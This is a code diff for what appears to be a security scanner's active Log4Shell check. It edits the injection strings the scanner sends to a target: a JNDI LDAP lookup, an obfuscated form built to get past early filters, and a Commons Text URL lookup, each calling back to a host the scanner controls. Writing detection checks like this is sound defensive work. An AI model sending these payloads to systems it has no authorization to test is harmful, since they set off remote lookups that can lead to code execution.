@@ -2,11 +2,13 @@ import type { ActiveCheck } from '../check.ts';
 import { causeOf, placeOf } from './answers.ts';
 import { newCall } from './callback.ts';
 
-/** As the flaw's first filters had it, then as those were got around; and Commons Text's own. */
-const lookUps: readonly ((address: string, host: string) => string)[] = [
-  (_url, host) => `\${jndi:ldap://${host}}`,
-  (_url, host) => `\${\${lower:j}ndi:\${lower:l}dap://${host}}`,
-  (url) => `\${url:UTF-8:${url}}`,
+/**
+ * As the flaw's first filters had it, then as those were got around, and Commons Text's own; the two
+ * libraries leave each other's look-ups alone, so that one line tries all.
+ */
+const lookUps: readonly ((host: string) => string)[] = [
+  (host) => `\${jndi:ldap://${host}}`,
+  (host) => `\${\${lower:j}ndi:\${lower:l}dap://${host}}\${url:UTF-8:http://${host}}`,
 ];
 
 export const log4shell: ActiveCheck = {
@@ -30,7 +32,7 @@ export const log4shell: ActiveCheck = {
     for (const write of lookUps) {
       const call = newCall(prober);
       if (call === null) return [];
-      const value = write(call.url, call.url.replace('http://', ''));
+      const value = write(call.url.replace('http://', ''));
       await prober.send(point, value);
       const by = await call.heard();
       if (by === null) continue;
